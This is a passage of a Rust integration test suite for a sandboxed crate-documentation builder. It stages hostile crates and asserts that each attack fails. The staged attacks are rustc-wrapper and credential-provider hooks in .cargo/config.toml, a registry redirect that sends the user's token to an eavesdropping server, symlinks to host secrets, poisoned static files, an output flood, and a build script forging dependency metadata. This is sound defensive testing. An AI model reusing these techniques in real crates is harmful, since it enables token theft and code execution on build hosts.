//! Hostile crates (SPEC.md, "Hostile crates") end to end: the real binary, the real
//! Docker engine, fixture crates from `tests/fixtures/hostile-*` and crates served by
//! the test's own registry. Each test is one attack and asserts what the attack must
//! not achieve; the comment above each names the attack.
//!
//! Every test lives in a world of its own (a temporary directory under the test run's
//! target directory) holding its packages, the host's secrets and markers, docbuild's
//! cache and data directories, and the user's home and cargo home. Paths of that
//! world are host paths: the sandbox sees none of them, so a marker written there or
//! a secret read from there proves that something crossed the sandbox's boundary.

mod common;
mod registry;

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use registry::TestRegistry;
use serde_json::Value;

/// One test's world (see above).
struct World {
    dir: tempfile::TempDir,
}

impl World {
    fn new() -> Self {
        // Outside docbuild's own repository: links and files may point anywhere in
        // the repository around a package, and these tests' secrets must be outside
        // any project.
        let dir = tempfile::tempdir().unwrap();
        for sub in ["home", "user-cargo-home"] {
            std::fs::create_dir_all(dir.path().join(sub)).unwrap();
        }
        Self { dir }
    }

    fn path(&self) -> &Path {
        self.dir.path()
    }

    fn cache(&self) -> PathBuf {
        self.path().join("cache")
    }

    fn data(&self) -> PathBuf {
        self.path().join("data")
    }

    /// The user's `CARGO_HOME`: their cargo configuration and credentials.
    fn user_cargo_home(&self) -> PathBuf {
        self.path().join("user-cargo-home")
    }

    /// A copy of `tests/fixtures/FIXTURE` at `<world>/DIR`.
    fn package(&self, fixture: &str, dir: &str) -> PathBuf {
        let to = self.path().join(dir);
        common::copy_dir(
            &Path::new(env!("CARGO_MANIFEST_DIR"))
                .join("tests/fixtures")
                .join(fixture),
            &to,
        );
        to
    }

    fn command(&self, args: &[&str]) -> Command {
        let mut command = Command::new(env!("CARGO_BIN_EXE_docbuild"));
        command
            .args(args)
            .current_dir(self.path())
            .env("DOCBUILD_CACHE_DIR", self.cache())
            // The world's directory is deleted after the test: nothing may stay
            // mounted in it.
            .env("DOCBUILD_KEEP_MOUNTED", "0")
            // No comparison with crates.io's versions of same-named crates.
            .env("DOCBUILD_NO_API", "1")
            .env("DOCBUILD_DATA_DIR", self.data())
            .env("HOME", self.path().join("home"))
            .env("CARGO_HOME", self.user_cargo_home());
        command
    }

    fn docbuild(&self, args: &[&str]) -> Output {
        self.command(args).output().unwrap()
    }

    /// Runs `check PATH --json` and returns the exit code and the one JSON line.
    fn check(&self, path: &Path, extra: &[&str]) -> (i32, Value) {
        let mut args = vec!["check", path.to_str().unwrap(), "--json"];
        args.extend(extra);
        let output = self.docbuild(&args);
        let stdout = String::from_utf8_lossy(&output.stdout);
        let lines: Vec<&str> = stdout.lines().collect();
        assert_eq!(
            lines.len(),
            1,
            "one JSON line expected on stdout, got {stdout:?}; stderr: {}",
            String::from_utf8_lossy(&output.stderr)
        );
        let report: Value = serde_json::from_str(lines[0]).unwrap();
        (output.status.code().unwrap_or(-1), report)
    }

    /// `queue add ARGS --json`; the job id, or the failed command's output.
    fn try_add(&self, args: &[&str]) -> Result<i64, Output> {
        let mut all = vec!["queue", "add"];
        all.extend(args);
        all.push("--json");
        let output = self.docbuild(&all);
        if !output.status.success() {
            return Err(output);
        }
        let out: Value = serde_json::from_slice(&output.stdout).unwrap();
        Ok(out["id"].as_i64().unwrap())
    }

    fn add(&self, args: &[&str]) -> i64 {
        self.try_add(args).unwrap_or_else(|output| {
            panic!(
                "queue add {args:?}: exit {:?}: {}",
                output.status.code(),
                String::from_utf8_lossy(&output.stderr)
            )
        })
    }

    /// `worker --once`: builds every queued job.
    fn work(&self) {
        let output = self.docbuild(&["worker", "--once"]);
        assert!(
            output.status.success(),
            "worker: exit {:?}: {}",
            output.status.code(),
            String::from_utf8_lossy(&output.stderr)
        );
    }

    fn job(&self, id: i64) -> Value {
        let output = self.docbuild(&["queue", "show", &id.to_string(), "--json"]);
        assert!(output.status.success());
        serde_json::from_slice(&output.stdout).unwrap()
    }
}

fn log_of(report: &Value) -> String {
    report["log"]
        .as_str()
        .and_then(|log| std::fs::read_to_string(log).ok())
        .unwrap_or_default()
}

// Attack 1: host code execution through a crate's cargo configuration.

impl World {
    fn write_docbuild_toml(&self, registry_index: &str, token: Option<&str>) {
        std::fs::create_dir_all(self.data()).unwrap();
        let token = token
            .map(|t| format!("token = \"{t}\"\n"))
            .unwrap_or_default();
        std::fs::write(
            self.data().join("docbuild.toml"),
            format!("[registries.testreg]\nindex = \"{registry_index}\"\n{token}"),
        )
        .unwrap();
    }

    /// The user's cargo configuration (`config.toml` in their cargo home), and with a
    /// token, their credentials as `cargo login --registry testreg` saves them.
    fn write_user_cargo_config(&self, config: &str, token: Option<&str>) {
        std::fs::write(self.user_cargo_home().join("config.toml"), config).unwrap();
        if let Some(token) = token {
            std::fs::write(
                self.user_cargo_home().join("credentials.toml"),
                format!("[registries.testreg]\ntoken = \"{token}\"\n"),
            )
            .unwrap();
        }
    }
}

/// cargo configuration naming the registry `testreg`, whose token cargo's built-in
/// provider reads from the credentials (cargo sends tokens to a registry that
/// requires them only through a configured provider).
fn testreg_with_token_provider(index: &str) -> String {
    format!("[registries.testreg]\nindex = \"{index}\"\ncredential-provider = \"cargo:token\"\n")
}

fn write_executable(path: &Path, content: &str) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::write(path, content).unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
}

/// A wrapper that records each run in `marker` (a host path), then runs its
/// arguments, so that cargo goes on as if nothing happened.
fn recording_wrapper(marker: &Path) -> String {
    format!(
        "#!/bin/sh\necho \"$0 $*\" >> '{}'\nexec \"$@\"\n",
        marker.display()
    )
}

/// A credential provider that records each run in `marker` and fails.
fn recording_provider(marker: &Path) -> String {
    format!(
        "#!/bin/sh\necho \"$0 $*\" >> '{}'\nexit 1\n",
        marker.display()
    )
}

fn assert_never_ran(marker: &Path, step: &str) {
    assert!(
        !marker.exists(),
        "{step}: a program named by the crate's cargo configuration ran on the host:\n{}",
        std::fs::read_to_string(marker).unwrap_or_default()
    );
}

/// A gzipped tar of `(path, content, mode)` entries: a crate archive as a hostile
/// registry may serve it.
fn crate_archive(files: &[(&str, &[u8], u32)]) -> Vec<u8> {
    let mut tar = tar::Builder::new(flate2::write::GzEncoder::new(
        Vec::new(),
        flate2::Compression::fast(),
    ));
    for (path, content, mode) in files {
        let mut header = tar::Header::new_gnu();
        header.set_mode(*mode);
        header.set_mtime(1_700_000_000);
        header.set_size(content.len() as u64);
        tar.append_data(&mut header, path, *content).unwrap();
    }
    tar.into_inner().unwrap().finish().unwrap()
}

/// Writes `config` (with `SCRIPT` standing for `script`) as `package`'s own
/// `.cargo/config.toml`, then checks the package in both source modes and through
/// `queue add` and a worker: every one builds it, and none runs the script (which
/// would append to `marker`).
fn assert_package_config_runs_nothing(
    world: &World,
    package: &Path,
    marker: &Path,
    script: &Path,
    config: &str,
) {
    std::fs::create_dir_all(package.join(".cargo")).unwrap();
    std::fs::write(
        package.join(".cargo/config.toml"),
        config.replace("SCRIPT", script.to_str().unwrap()),
    )
    .unwrap();

    let (code, report) = world.check(package, &[]);
    assert_never_ran(marker, "check");
    assert_eq!(code, 0, "{report:#}\n{}", log_of(&report));

    let (code, report) = world.check(package, &["--no-package"]);
    assert_never_ran(marker, "check --no-package");
    assert_eq!(code, 0, "{report:#}\n{}", log_of(&report));

    let id = world.try_add(&[package.to_str().unwrap()]);
    assert_never_ran(marker, "queue add PATH");
    let id = id.unwrap_or_else(|output| {
        panic!(
            "queue add: exit {:?}: {}",
            output.status.code(),
            String::from_utf8_lossy(&output.stderr)
        )
    });
    world.work();
    assert_never_ran(marker, "worker --once");
    let job = world.job(id);
    assert_eq!(job["outcome"], "success", "{job:#}");
}

/// Attack 1 (host code execution through a package's cargo configuration), for a
/// local package: `.cargo/config.toml` holds `config`, in which `SCRIPT` stands for
/// the absolute path of a recording wrapper inside the package. Neither `check` (in
/// both source modes) nor `queue add` and a worker may run it; the crate still
/// builds, as docs.rs builds it: without its cargo configuration.
fn assert_local_cargo_config_runs_nothing(config: &str) {
    let world = World::new();
    let package = world.package("hostile-host-exec", "hostile-host-exec");
    let marker = world.path().join("marker");
    let script = package.join("wrap.sh");
    write_executable(&script, &recording_wrapper(&marker));
    assert_package_config_runs_nothing(&world, &package, &marker, &script, config);
}

// Attack 1: `build.rustc-wrapper` in a local package's `.cargo/config.toml`.
#[test]
fn a_package_s_rustc_wrapper_never_runs_on_the_host() {
    assert_local_cargo_config_runs_nothing("[build]\nrustc-wrapper = \"SCRIPT\"\n");
}

// Attack 1: `build.rustc-workspace-wrapper` in a local package's `.cargo/config.toml`.
#[test]
fn a_package_s_rustc_workspace_wrapper_never_runs_on_the_host() {
    assert_local_cargo_config_runs_nothing("[build]\nrustc-workspace-wrapper = \"SCRIPT\"\n");
}

/// Attack 1 with a credential provider: a local package depends on a crate of the
/// user's registry `testreg`, which requires a token (the user's cargo
/// configuration, `user_config`, names it and its provider; their credentials hold
/// the token); the package's `.cargo/config.toml` holds `config`, naming a recording
/// provider (`SCRIPT`) instead, which cargo would run as soon as it needs the token.
/// It never runs; the crate builds with the user's token, as it would without its
/// configuration.
fn assert_local_credential_provider_never_runs(user_config: &str, config: &str) {
    let token = "hostile-provider-test-token";
    let registry = TestRegistry::start(Some(token));
    registry.publish(
        "provided",
        "0.1.0",
        "",
        &[("src/lib.rs", "/// Provided.\npub struct Provided;\n")],
        &[],
    );
    let world = World::new();
    let user_config = user_config.replace("INDEX", &registry.index_url());
    world.write_user_cargo_config(&user_config, Some(token));
    let package = world.package("hostile-registry-dep", "hostile-registry-dep");
    let marker = world.path().join("marker");
    let script = package.join("provider.sh");
    write_executable(&script, &recording_provider(&marker));
    assert_package_config_runs_nothing(&world, &package, &marker, &script, config);
}

// Attack 1: `[registries.testreg] credential-provider` in a local package's
// `.cargo/config.toml`.
#[test]
fn a_package_s_registry_credential_provider_never_runs_on_the_host() {
    assert_local_credential_provider_never_runs(
        &testreg_with_token_provider("INDEX"),
        "[registries.testreg]\ncredential-provider = \"SCRIPT\"\n",
    );
}

// Attack 1: `[registry] global-credential-providers` in a local package's
// `.cargo/config.toml`.
#[test]
fn a_package_s_global_credential_provider_never_runs_on_the_host() {
    assert_local_credential_provider_never_runs(
        "[registry]\nglobal-credential-providers = [\"cargo:token\"]\n\n\
         [registries.testreg]\nindex = \"INDEX\"\n",
        "[registry]\nglobal-credential-providers = [\"SCRIPT\"]\n",
    );
}

// Attack 1: a registry crate whose archive holds `.cargo/config.toml` naming a
// `rustc-wrapper` shipped in the same archive (by a relative path, as the crate
// cannot know where it is unpacked), built by `queue add NAME@VER` and a worker.
#[test]
fn a_registry_crate_s_rustc_wrapper_never_runs_on_the_host() {
    let world = World::new();
    let marker = world.path().join("marker");
    let registry = TestRegistry::start(None);
    let manifest = "[package]\nname = \"wrapped\"\nversion = \"0.1.0\"\nedition = \"2024\"\n\
                    description = \"x\"\nlicense = \"MIT\"\n";
    let wrapper = recording_wrapper(&marker);
    let archive = crate_archive(&[
        ("wrapped-0.1.0/Cargo.toml", manifest.as_bytes(), 0o644),
        ("wrapped-0.1.0/Cargo.toml.orig", manifest.as_bytes(), 0o644),
        (
            "wrapped-0.1.0/src/lib.rs",
            b"//! Wrapped.\n\n/// Something.\npub struct Wrapped;\n",
            0o644,
        ),
        (
            "wrapped-0.1.0/.cargo/config.toml",
            b"[build]\nrustc-wrapper = \"./wrap.sh\"\nrustc-workspace-wrapper = \"./wrap.sh\"\n",
            0o644,
        ),
        ("wrapped-0.1.0/wrap.sh", wrapper.as_bytes(), 0o755),
    ]);
    let sum = registry::sha256(&archive);
    registry.publish_raw("wrapped", "0.1.0", archive, &sum, &[]);
    world.write_docbuild_toml(&registry.index_url(), None);

    let id = world.add(&["wrapped@0.1.0", "--registry", "testreg"]);
    world.work();
    assert_never_ran(&marker, "worker --once");
    let job = world.job(id);
    assert_eq!(job["outcome"], "success", "{job:#}");
}

// Attack 2: token theft through a crate's cargo configuration.

/// A registry server run by an attacker: it asks for a token like any registry
/// that requires authentication, and records the head of every request it gets.
struct Eavesdropper {
    port: u16,
    heads: Heads,
}

/// The heads of the requests a server got.
type Heads = std::sync::Arc<std::sync::Mutex<Vec<String>>>;

impl Eavesdropper {
    fn start() -> Self {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let heads = Heads::default();
        let seen = heads.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let seen = seen.clone();
                std::thread::spawn(move || eavesdrop(stream, port, &seen));
            }
        });
        Self { port, heads }
    }

    fn index_url(&self) -> String {
        format!("sparse+http://127.0.0.1:{}/index/", self.port)
    }

    fn heads_containing(&self, needle: &str) -> Vec<String> {
        self.heads
            .lock()
            .unwrap()
            .iter()
            .filter(|head| head.contains(needle))
            .cloned()
            .collect()
    }
}

fn eavesdrop(stream: std::net::TcpStream, port: u16, heads: &std::sync::Mutex<Vec<String>>) {
    use std::io::{BufRead, BufReader, Write};

    let mut reader = BufReader::new(stream.try_clone().unwrap());
    let mut stream = stream;
    loop {
        let mut head = String::new();
        loop {
            let mut line = String::new();
            if reader.read_line(&mut line).unwrap_or(0) == 0 {
                return;
            }
            if line.trim_end().is_empty() {
                break;
            }
            head.push_str(&line);
        }
        heads.lock().unwrap().push(head.clone());
        let path = head.split_whitespace().nth(1).unwrap_or("/").to_string();
        let authorized = head
            .lines()
            .any(|line| line.to_ascii_lowercase().starts_with("authorization:"));
        let (status, extra, body) = if !authorized {
            (
                "401 Unauthorized",
                "www-authenticate: Cargo login_url=\"http://127.0.0.1/login\"\r\n",
                "token required".to_string(),
            )
        } else if path == "/index/config.json" {
            let config = serde_json::json!({
                "dl": format!("http://127.0.0.1:{port}/dl/{{crate}}/{{version}}"),
                "auth-required": true,
            });
            ("200 OK", "", config.to_string())
        } else {
            ("404 Not Found", "", "not found".to_string())
        };
        let response = format!(
            "HTTP/1.1 {status}\r\ncontent-length: {}\r\n{extra}\r\n{body}",
            body.len()
        );
        if stream.write_all(response.as_bytes()).is_err() {
            return;
        }
    }
}

// Attack 2 (token theft): the user's cargo configuration names `testreg` and holds
// its token; a local package's own `.cargo/config.toml` points `testreg` at another
// server and depends on a crate of `testreg`. That server never gets the token: not
// from `check` (either source mode), nor from `queue add` and a worker.
#[test]
fn a_package_s_cargo_config_cannot_send_the_user_s_token_elsewhere() {
    let world = World::new();
    let token = format!(
        "hostile-user-token-{}",
        world.path().file_name().unwrap().to_string_lossy()
    );
    let registry = TestRegistry::start(Some(&token));
    registry.publish(
        "provided",
        "0.1.0",
        "",
        &[("src/lib.rs", "/// Provided.\npub struct Provided;\n")],
        &[],
    );
    let thief = Eavesdropper::start();
    world.write_user_cargo_config(
        &testreg_with_token_provider(&registry.index_url()),
        Some(&token),
    );
    let package = world.package("hostile-registry-dep", "hostile-registry-dep");
    std::fs::create_dir_all(package.join(".cargo")).unwrap();
    std::fs::write(
        package.join(".cargo/config.toml"),
        format!("[registries.testreg]\nindex = \"{}\"\n", thief.index_url()),
    )
    .unwrap();

    let steps: [(&str, &dyn Fn()); 3] = [
        ("check", &|| {
            world.check(&package, &[]);
        }),
        ("check --no-package", &|| {
            world.check(&package, &["--no-package"]);
        }),
        ("queue add PATH + worker --once", &|| {
            let _ = world.try_add(&[package.to_str().unwrap()]);
            world.work();
        }),
    ];
    for (step, run) in steps {
        run();
        let stolen = thief.heads_containing(&token);
        assert!(
            stolen.is_empty(),
            "{step}: the token reached a server the user never configured:\n{stolen:#?}"
        );
    }
}

// Attack 2 (token theft) through a registry crate: docbuild.toml gives `testreg` a
// token; a crate of `testreg` ships `.cargo/config.toml` pointing `testreg` at
// another server and depends on a crate of `testreg`. Built by a worker, that
// server never gets the token.
#[test]
fn a_registry_crate_s_cargo_config_cannot_send_docbuild_s_token_elsewhere() {
    let world = World::new();
    let token = format!(
        "hostile-docbuild-token-{}",
        world.path().file_name().unwrap().to_string_lossy()
    );
    let registry = TestRegistry::start(Some(&token));
    registry.publish(
        "provided",
        "0.1.0",
        "",
        &[("src/lib.rs", "/// Provided.\npub struct Provided;\n")],
        &[],
    );
    let thief = Eavesdropper::start();
    let manifest = "[package]\nname = \"token-thief\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\
                    description = \"x\"\nlicense = \"MIT\"\n\n\
                    [dependencies]\nprovided = { version = \"0.1\", registry = \"testreg\" }\n";
    let config = format!("[registries.testreg]\nindex = \"{}\"\n", thief.index_url());
    let archive = crate_archive(&[
        ("token-thief-0.1.0/Cargo.toml", manifest.as_bytes(), 0o644),
        (
            "token-thief-0.1.0/Cargo.toml.orig",
            manifest.as_bytes(),
            0o644,
        ),
        (
            "token-thief-0.1.0/src/lib.rs",
            b"//! Thief.\n\npub use provided::Provided;\n",
            0o644,
        ),
        (
            "token-thief-0.1.0/.cargo/config.toml",
            config.as_bytes(),
            0o644,
        ),
    ]);
    let sum = registry::sha256(&archive);
    registry.publish_raw("token-thief", "0.1.0", archive, &sum, &["provided"]);
    world.write_docbuild_toml(&registry.index_url(), Some(&token));

    world.add(&["token-thief@0.1.0", "--registry", "testreg"]);
    world.work();
    assert!(
        registry
            .requests
            .lock()
            .unwrap()
            .iter()
            .any(|(path, _)| path.starts_with("/dl/token-thief/0.1.0 200")),
        "the worker downloaded the crate"
    );
    let stolen = thief.heads_containing(&token);
    assert!(
        stolen.is_empty(),
        "the token reached a server no one configured:\n{stolen:#?}"
    );
}

// Attacks 3 to 5: what a build script plants among the docs and the target
// directory.

impl World {
    /// A host file outside every package, holding a string found nowhere else.
    fn secret_file(&self, name: &str) -> (PathBuf, String) {
        let secret = format!(
            "hostile-secret-{}-{name}",
            self.path().file_name().unwrap().to_string_lossy()
        );
        let path = self.path().join("secrets").join(name);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, &secret).unwrap();
        (path, secret)
    }

    /// Every file of a finished job's stored docs, by path, as the viewer serves it.
    fn stored_files(&self, job: &Value) -> Vec<(String, Vec<u8>)> {
        let store = common::stored::DataStore::open(&self.data());
        let build = job["build"].as_i64().unwrap();
        let builds = store.store().builds();
        let manifest = store.block_on(builds.manifest(build)).unwrap().unwrap();
        manifest
            .files
            .iter()
            .map(|(path, entry)| {
                let stored = store
                    .block_on(docbuild_store::archive::load(builds.blobs(), entry))
                    .unwrap();
                let content = docbuild_store::archive::decode(entry, stored).unwrap();
                (path.clone(), content.to_vec())
            })
            .collect()
    }
}

/// Every entry below `dir`, links not followed.
fn entries(dir: &Path) -> Vec<(PathBuf, std::fs::Metadata)> {
    let mut found = Vec::new();
    let Ok(read) = std::fs::read_dir(dir) else {
        return found;
    };
    for entry in read.flatten() {
        let path = entry.path();
        let metadata = std::fs::symlink_metadata(&path).unwrap();
        if metadata.is_dir() {
            found.extend(entries(&path));
        }
        found.push((path, metadata));
    }
    found
}

fn assert_no_links(dir: &Path) {
    let links: Vec<String> = entries(dir)
        .into_iter()
        .filter(|(_, m)| m.file_type().is_symlink())
        .map(|(path, _)| {
            let to = std::fs::read_link(&path).unwrap_or_default();
            format!("{} -> {}", path.display(), to.display())
        })
        .collect();
    assert!(
        links.is_empty(),
        "links under {}: {links:#?}",
        dir.display()
    );
}

/// Regular files below `dir` (links not followed) whose content holds `needle`.
fn files_containing(dir: &Path, needle: &str) -> Vec<PathBuf> {
    entries(dir)
        .into_iter()
        .filter(|(_, m)| m.is_file())
        .filter(|(path, _)| {
            std::fs::read(path)
                .unwrap_or_default()
                .windows(needle.len())
                .any(|window| window == needle.as_bytes())
        })
        .map(|(path, _)| path)
        .collect()
}

fn assert_nowhere(dir: &Path, needle: &str) {
    let found = files_containing(dir, needle);
    assert!(
        found.is_empty(),
        "`{needle}` found under {}: {found:#?}",
        dir.display()
    );
}

/// The package of attack 3: its build script links, among the docs, to a secret
/// host file and a directory holding another secret.
fn linking_package(world: &World) -> (PathBuf, [String; 2]) {
    let package = world.package("hostile-links", "hostile-links");
    let (file, file_secret) = world.secret_file("leaked.txt");
    let (inner, dir_secret) = world.secret_file("leaked-dir/inner.txt");
    std::fs::write(
        package.join("link-targets.txt"),
        format!(
            "{}\n{}\n",
            file.display(),
            inner.parent().unwrap().display()
        ),
    )
    .unwrap();
    (package, [file_secret, dir_secret])
}

// Attack 3 (host file disclosure): links to host files planted among the docs by a
// build script are not followed when `check --out` copies the docs out; the build
// still succeeds.
#[test]
fn links_planted_among_the_docs_are_not_followed_by_check_out() {
    let world = World::new();
    let (package, secrets) = linking_package(&world);
    let out = world.path().join("out");
    let (code, report) = world.check(&package, &["--out", out.to_str().unwrap()]);
    assert_eq!(code, 0, "{report:#}\n{}", log_of(&report));
    assert_eq!(report["outcome"], "success");
    assert!(out.join("hostile_links/index.html").is_file());
    assert_no_links(&out);
    for secret in &secrets {
        assert_nowhere(&out, secret);
    }
}

// Attack 3 (host file disclosure): the same links are not followed into a stored
// build (nor into the shared static files) by a worker; the build succeeds.
#[test]
fn links_planted_among_the_docs_are_not_followed_by_a_worker() {
    let world = World::new();
    let (package, secrets) = linking_package(&world);
    let id = world.add(&[package.to_str().unwrap()]);
    world.work();
    let job = world.job(id);
    assert_eq!(job["outcome"], "success", "{job:#}");
    let files = world.stored_files(&job);
    assert!(
        files
            .iter()
            .any(|(path, _)| path == "hostile_links/index.html")
    );
    assert_no_links(&world.data().join("storage"));
    for (path, content) in &files {
        for secret in &secrets {
            assert!(
                !String::from_utf8_lossy(content).contains(secret.as_str()),
                "{path} holds a secret"
            );
        }
    }
}

// Attack 4 (host directory deletion): a build script replaces `<target>/<triple>`
// with a link to a host directory. Emptying the doc directory before the next
// build (the retry with a regenerated lockfile, since the packaged crate ships
// one; and the next check) must not empty the host directory's `doc/`.
#[test]
fn a_target_directory_linked_to_a_host_directory_does_not_empty_it() {
    let world = World::new();
    let package = world.package("hostile-victim", "hostile-victim");
    let victim = world.path().join("victim");
    std::fs::create_dir_all(victim.join("doc")).unwrap();
    std::fs::write(victim.join("doc/keep.txt"), "keep me").unwrap();
    std::fs::write(package.join("victim-path.txt"), victim.to_str().unwrap()).unwrap();
    for round in ["first", "second"] {
        let (code, report) = world.check(&package, &[]);
        assert!((0..=4).contains(&code), "{report:#}");
        assert!(
            victim.join("doc/keep.txt").is_file(),
            "{round} check: the host directory the target directory was linked to was emptied"
        );
    }
}

/// `static.files/main-*.js` files below `dir` holding the poison.
fn poisoned_main_js(dir: &Path) -> Vec<PathBuf> {
    files_containing(dir, "hostile-static-poison")
        .into_iter()
        .filter(|path| {
            let name = path.file_name().unwrap().to_string_lossy();
            name.starts_with("main-") && name.ends_with(".js")
        })
        .collect()
}

// Attack 5 (poisoned static files): a build script overwrites rustdoc's
// `static.files/main-*.js` while the build runs; `check --out` does not copy the
// poisoned file; the build succeeds.
#[test]
fn poisoned_static_files_are_not_copied_by_check_out() {
    let world = World::new();
    let package = world.package("hostile-static", "hostile-static");
    let out = world.path().join("out");
    let (code, report) = world.check(&package, &["--out", out.to_str().unwrap()]);
    assert_eq!(code, 0, "{report:#}\n{}", log_of(&report));
    assert!(out.join("hostile_static/index.html").is_file());
    let poisoned = poisoned_main_js(&out);
    assert!(poisoned.is_empty(), "poisoned: {poisoned:#?}");
}

// Attack 5 (poisoned static files): a worker neither stores nor shares (for every
// build's pages) the poisoned `static.files/main-*.js`; the build succeeds.
#[test]
fn poisoned_static_files_are_not_stored_by_a_worker() {
    let world = World::new();
    let package = world.package("hostile-static", "hostile-static");
    let id = world.add(&[package.to_str().unwrap()]);
    world.work();
    let job = world.job(id);
    assert_eq!(job["outcome"], "success", "{job:#}");
    let files = world.stored_files(&job);
    assert!(
        files
            .iter()
            .any(|(path, _)| path == "hostile_static/index.html")
    );
    let main_js: Vec<&String> = files
        .iter()
        .filter(|(path, _)| path.starts_with("static.files/main-") && path.ends_with(".js"))
        .map(|(path, _)| path)
        .collect();
    assert!(!main_js.is_empty(), "rustdoc's main.js is stored");
    let poisoned: Vec<&String> = files
        .iter()
        .filter(|(_, content)| String::from_utf8_lossy(content).contains("hostile-static-poison"))
        .map(|(path, _)| path)
        .collect();
    assert!(poisoned.is_empty(), "poisoned: {poisoned:#?}");
}

// Attacks 6 and 7: what a local package pulls in, and what it finds left over.

// Attack 6 (a local package pulling host files in): `src/secret.rs` is a link to a
// host file outside the package. `check` refuses it as invalid input naming the
// file, in both source modes, and the secret gets nowhere into docbuild's cache or
// the `--out` directory.
#[test]
fn a_source_file_linked_outside_the_package_is_refused() {
    let world = World::new();
    let package = world.package("hostile-include", "hostile-include");
    let (file, secret) = world.secret_file("secret.rs");
    std::fs::write(&file, format!("pub const SECRET: &str = \"{secret}\";\n")).unwrap();
    std::os::unix::fs::symlink(&file, package.join("src/secret.rs")).unwrap();
    let out = world.path().join("out");
    for mode in [&[][..], &["--no-package"][..]] {
        let mut extra = vec!["--out", out.to_str().unwrap()];
        extra.extend(mode);
        let (code, report) = world.check(&package, &extra);
        assert_nowhere(&world.cache(), &secret);
        assert_nowhere(&out, &secret);
        assert_eq!(code, 2, "{mode:?}: {report:#}");
        assert_eq!(report["outcome"], "invalid-input", "{mode:?}");
        assert!(
            report["message"]
                .as_str()
                .unwrap_or("")
                .contains("secret.rs"),
            "{mode:?}: the message names the file: {report:#}"
        );
    }
}

// Attack 6 (a local package pulling host files in): `readme` is the absolute path
// of a host file outside the package (which `cargo package` would put into the
// package, for `include_str!` to show). `check` refuses it as invalid input naming
// the readme, and the secret gets nowhere into docbuild's cache or the `--out`
// directory.
#[test]
fn a_readme_outside_the_package_is_refused() {
    let world = World::new();
    let package = world.package("hostile-readme", "hostile-readme");
    let (readme, secret) = world.secret_file("README.md");
    let manifest = std::fs::read_to_string(package.join("Cargo.toml"))
        .unwrap()
        .replace("ABSOLUTE_README_PATH", readme.to_str().unwrap());
    std::fs::write(package.join("Cargo.toml"), manifest).unwrap();
    let out = world.path().join("out");
    let (code, report) = world.check(&package, &["--out", out.to_str().unwrap()]);
    assert_nowhere(&world.cache(), &secret);
    assert_nowhere(&out, &secret);
    assert_eq!(code, 2, "{report:#}");
    assert_eq!(report["outcome"], "invalid-input");
    assert!(
        report["message"]
            .as_str()
            .unwrap_or("")
            .to_ascii_lowercase()
            .contains("readme"),
        "the message names the readme: {report:#}"
    );
}

// Attack 7 (two packages from one path): package A, checked at a path, leaves a file
// in its target directory; package B, checked later at the same path, fails its
// build if it can see that file. B's check succeeds.
#[test]
fn a_package_cannot_see_what_another_package_at_the_same_path_left() {
    let world = World::new();
    let fixtures = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures");
    let path = world.path().join("pkg");
    common::copy_dir(&fixtures.join("hostile-plant-a"), &path);
    let (code, report) = world.check(&path, &[]);
    assert_eq!(code, 0, "package A builds: {report:#}\n{}", log_of(&report));
    std::fs::remove_dir_all(&path).unwrap();
    common::copy_dir(&fixtures.join("hostile-plant-b"), &path);
    let (code, report) = world.check(&path, &[]);
    assert_eq!(report["name"], "hostile-plant-b");
    assert_eq!(code, 0, "{report:#}\n{}", log_of(&report));
}

// Attack 8: memory.

/// The high-water mark of a process's resident memory, in KiB, while it lives.
fn peak_rss_kib(pid: u32) -> Option<u64> {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    status
        .lines()
        .find_map(|line| line.strip_prefix("VmHWM:"))?
        .split_whitespace()
        .next()?
        .parse()
        .ok()
}

// Attack 8 (memory): a build script writes 1 GiB of fake compiler errors (valid
// cargo JSON messages) straight into the container's output, through pid 1's
// stdout. docbuild's check ends (any outcome) without its resident memory ever
// passing 100 MB.
#[test]
fn a_flood_of_compiler_messages_does_not_grow_docbuild_s_memory() {
    let world = World::new();
    let package = world.package("hostile-flood", "hostile-flood");
    let stderr = std::fs::File::create(world.path().join("stderr")).unwrap();
    let mut child = world
        .command(&["check", package.to_str().unwrap(), "--json"])
        .stdout(std::process::Stdio::null())
        .stderr(stderr)
        .spawn()
        .unwrap();
    let mut peak = 0;
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        if let Some(now) = peak_rss_kib(child.id()) {
            peak = peak.max(now);
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    };
    assert!(
        status.code().is_some(),
        "docbuild was killed: {status:?}; stderr: {}",
        std::fs::read_to_string(world.path().join("stderr")).unwrap_or_default()
    );
    assert!(
        peak * 1024 < 100_000_000,
        "docbuild's resident memory peaked at {} MB",
        peak * 1024 / 1_000_000
    );
}

// Attack 6 (dependency reuse): crate M's build script rewrites the compiled metadata
// of a dependency it shares with other crates, so that crates built later, reusing
// compiled dependencies, document M's forgery. The build cache's rule: what was
// compiled while M's code ran reaches only builds whose own graph holds M.

/// `tamper`'s build script: waits for `shared`'s compiled metadata in its target
/// directory and replaces it with the metadata of a forged `shared` that has
/// `tampered()` where the real one has `genuine()`.
const TAMPERING_BUILD_SCRIPT: &str = r#"
use std::path::PathBuf;
use std::time::{Duration, Instant};

fn main() {
    let out = PathBuf::from(std::env::var("OUT_DIR").unwrap());
    // OUT_DIR is <target>/<triple>/debug/build/tamper-<hash>/out.
    let deps = out.ancestors().nth(3).unwrap().join("deps");
    let rustc = std::env::var("RUSTC").unwrap();
    let started = Instant::now();
    while started.elapsed() < Duration::from_secs(120) {
        let found: Vec<PathBuf> = std::fs::read_dir(&deps)
            .into_iter()
            .flatten()
            .flatten()
            .map(|entry| entry.path())
            .filter(|path| {
                let name = path.file_name().unwrap().to_string_lossy();
                name.starts_with("libshared-") && name.ends_with(".rmeta")
            })
            .collect();
        if !found.is_empty() {
            let forged = out.join("forged.rs");
            std::fs::write(&forged, "/// Forged.\npub fn tampered() {}\n").unwrap();
            for rmeta in found {
                let status = std::process::Command::new(&rustc)
                    .args(["--crate-name", "shared", "--crate-type", "lib"])
